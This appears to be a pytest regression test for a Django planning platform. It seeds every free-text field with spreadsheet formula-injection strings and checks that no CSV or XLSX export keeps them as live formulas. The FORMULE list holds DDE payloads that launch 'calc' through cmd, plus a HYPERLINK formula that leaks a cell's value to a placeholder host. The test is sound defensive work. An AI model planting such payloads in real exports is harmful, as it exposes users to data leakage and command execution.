"""Drill: text a user wrote never reaches a spreadsheet as a live formula (issue #21, point 1).

A formula is planted in every free-text field of every table (the catalogue's and the sheets'
names, the cycle, the Region's and the districts' names, people's names, notes…), then every
export the platform writes is downloaded as the users who may: every page of the urlconf that
answers with a CSV or an XLSX (plan history, allocations, co-financing, comparison, the Region's
plan table, allocations and catalogue, dashboards, SIOSS, every open dataset), the indicators' job
and the admin's exports. No CSV cell starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return unless it is a number; no XLSX cell is a formula.
"""

import csv
import io
import re

import openpyxl
import pytest
from django.apps import apps
from django.core.cache import cache
from django.db import models
from django.db.models import Value
from django.db.models.functions import Cast, Concat
from django.test import Client

from monitoraggio.indicatori.lavori import ricalcolo_accoda
from pianizona.demo import DOMINIO, seed_demo
from pianizona.esportazioni import CARATTERI_FORMULA, NUMERO
from pianizona.lavori.services import job_esegui
from pianizona.models import Ambito, Piano, User

from .conftest import figura
from .percorsi import istanze, pattern_dell_urlconf
from .semina import APP_DEL_PROGETTO, NON_MARCATI
from .visita import corpo

FORMULE = [
    '=HYPERLINK("http://esempio.invalid/?x="&A2,"Apri")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Routes whose answer is a file to open in a spreadsheet program.
ESPORTAZIONI = re.compile(r"esporta|/csv/|/xlsx/|confronto/excel|dati-aperti/cicli/.+formato")
VARIANTI = ("", "?formato=csv")
# Text the platform parses rather than shows.
NON_TESTO = {"monitoraggio.Indicatore.formula": "espressione che la piattaforma calcola"}


def _campi_di_testo(modello: type[models.Model]) -> list[models.Field]:
    campi = []
    for campo in modello._meta.concrete_fields:
        if type(campo) not in (models.CharField, models.TextField) or campo.choices or campo.unique:
            continue
        chiave = f"{modello._meta.label}.{campo.name}"
        if chiave in NON_MARCATI or chiave in NON_TESTO or campo.name.startswith("codice"):
            continue  # keys and codes the platform looks things up by, not free text
        if modello is User and campo.name not in ("first_name", "last_name"):
            continue
        if campo.max_length is not None and campo.max_length < 16:
            continue
        campi.append(campo)
    return campi


def pianta_formule() -> int:
    """Every free-text field of every row holds a formula; returns how many fields."""
    piantati = 0
    for modello in apps.get_models():
        if modello._meta.app_label not in APP_DEL_PROGETTO:
            continue
        for campo in _campi_di_testo(modello):
            formula = FORMULE[piantati % len(FORMULE)]
            if campo.max_length:
                formula = formula[: campo.max_length - 10]
            # The row's id after it: names unique within a Region stay unique.
            valore = Concat(Value(f"{formula} "), Cast("pk", models.CharField()))
            # Only where there is text: an empty field often means "not applicable".
            righe = modello.objects.exclude(**{campo.name: ""})
            if campo.null:
                righe = righe.exclude(**{f"{campo.name}__isnull": True})
            righe.update(**{campo.name: valore})
            piantati += 1
    return piantati


def formule_vive(contenuto: bytes, nome: str) -> tuple[int, list[str]]:
    """(cells read, cells a spreadsheet program would run) of a CSV or XLSX."""
    vive, lette = [], 0
    if contenuto.startswith(b"PK\x03\x04"):
        libro = openpyxl.load_workbook(io.BytesIO(contenuto), data_only=False)
        for foglio in libro.worksheets:
            for riga in foglio.iter_rows():
                for cella in riga:
                    lette += cella.value is not None
                    if cella.data_type == "f":
                        vive.append(f"{nome} {foglio.title}!{cella.coordinate}: {cella.value!r}")
        return lette, vive
    testo = contenuto.decode("utf-8-sig")
    dialetto = csv.Sniffer().sniff(testo[:5000], delimiters=",;\t")
    for numero, riga in enumerate(
        csv.reader(io.StringIO(testo, newline=""), delimiter=dialetto.delimiter), start=1
    ):
        for valore in riga:
            lette += 1
            if valore.startswith(CARATTERI_FORMULA) and not NUMERO.fullmatch(valore):
                vive.append(f"{nome} riga {numero}: {valore!r}")
    return lette, vive


def _client(email: str) -> Client:
    client = Client()
    client.force_login(User.objects.get(email=email))
    return client


def _esportazioni_dell_admin(client: Client) -> list[tuple[str, bytes]]:
    """Each admin export page, in each spreadsheet format it offers, with its default fields."""
    file = []
    for url in ("/admin/pianizona/user/export/", "/admin/pianizona/ambito/export/"):
        pagina = client.get(url).content.decode()
        opzioni = re.findall(r'<option value="([^"]*)"[^>]*>([^<]*)</option>', pagina)
        spunte = re.findall(r'<input type="checkbox" name="([^"]+)"[^>]*checked', pagina)
        for valore, etichetta in opzioni:
            if etichetta.strip().lower() not in ("csv", "xlsx"):
                continue
            dati = {"format": valore, "resource": "0", **dict.fromkeys(spunte, "on")}
            risposta = client.post(url, dati)
            assert risposta.status_code == 200, f"{url} {etichetta}: {risposta.status_code}"
            file.append((f"{url} ({etichetta.strip()})", corpo(risposta)))
    return file


def _scarica(client: Client, url: str) -> list[tuple[str, bytes]]:
    """The file at this URL; a dashboard's CSV names its charts when asked for none: each one."""
    risposta = client.get(url)
    assert risposta.status_code < 500, f"{url}: {risposta.status_code}"
    tipo = risposta.get("Content-Type", "")
    if risposta.status_code == 200 and ("csv" in tipo or "spreadsheet" in tipo):
        return [(url, corpo(risposta))]
    testo = risposta.content.decode("utf-8", errors="replace")
    if risposta.status_code == 400 and "grafici disponibili sono:" in testo:
        nomi = testo.split("grafici disponibili sono:")[1].strip().rstrip(".").split(", ")
        separatore = "&" if "?" in url else "?"
        return [f for n in nomi for f in _scarica(client, f"{url}{separatore}grafico={n}")]
    return []


@pytest.fixture
def esportazioni(db, settings, tmp_path) -> list[tuple[str, bytes]]:
    settings.MEDIA_ROOT = tmp_path
    settings.PIANIZONA_MFA_OBBLIGATORIA = False
    cache.clear()
    seed_demo(scale="small")
    piantati = pianta_formule()
    ambito = Ambito.objects.get(codice="BA01")
    clienti = [
        _client(f"responsabile.ba01@{DOMINIO}"),
        _client(f"funzionario@{DOMINIO}"),
    ]
    file: list[tuple[str, bytes]] = []
    url_lette = set()
    for pattern in pattern_dell_urlconf():
        if not ESPORTAZIONI.search(pattern):
            continue
        for url in istanze(pattern, [ambito]):
            for variante in VARIANTI:
                for client in clienti:
                    letti = _scarica(client, url + variante)
                    if letti:
                        file += letti
                        url_lette.add(pattern)
                        break
    # The indicators' recalculation writes its CSV in a job.
    piano = Piano.objects.get(ambito=ambito, ciclo__anno_inizio=2025, anno=None)
    responsabile = User.objects.get(email=f"responsabile.ba01@{DOMINIO}")
    job = ricalcolo_accoda(user=responsabile, ambito=ambito, ciclo=piano.ciclo)
    assert job is not None
    job_esegui(job.pk)
    risposta = clienti[0].get(f"/lavori/{job.pk}/file/")
    assert risposta.status_code == 200, risposta.status_code
    file.append(("indicatori (lavoro)", corpo(risposta)))
    file += _esportazioni_dell_admin(_client(f"admin@{DOMINIO}"))
    figura(campi_con_formula=piantati, pagine_di_esportazione=len(url_lette))
    return file


def test_no_export_carries_a_live_formula(esportazioni):
    assert len(esportazioni) >= 20, [n for n, _ in esportazioni]
    celle, vive = 0, []
    for nome, contenuto in esportazioni:
        lette, trovate = formule_vive(contenuto, nome)
        celle += lette
        vive += trovate
    assert not vive, f"{len(vive)} celle con formule vive, ad esempio: {vive[:10]}"
    # What the user wrote is still there, as text: after an apostrophe in a CSV, as typed in XLSX.
    csv_piantati = [
        c for n, c in esportazioni if not c.startswith(b"PK") and b"esempio.invalid" in c
    ]
    assert csv_piantati, "nessun CSV riporta il testo piantato"
    assert any(b"'=HYPERLINK(" in c for c in csv_piantati)
    testi_xlsx = [
        cella.value
        for _, c in esportazioni
        if c.startswith(b"PK")
        for foglio in openpyxl.load_workbook(io.BytesIO(c)).worksheets
        for riga in foglio.iter_rows()
        for cella in riga
    ]
    assert any(isinstance(t, str) and t.startswith("=HYPERLINK(") for t in testi_xlsx)
    figura(file_esportati=len(esportazioni), celle_lette=celle, formule_vive=len(vive))
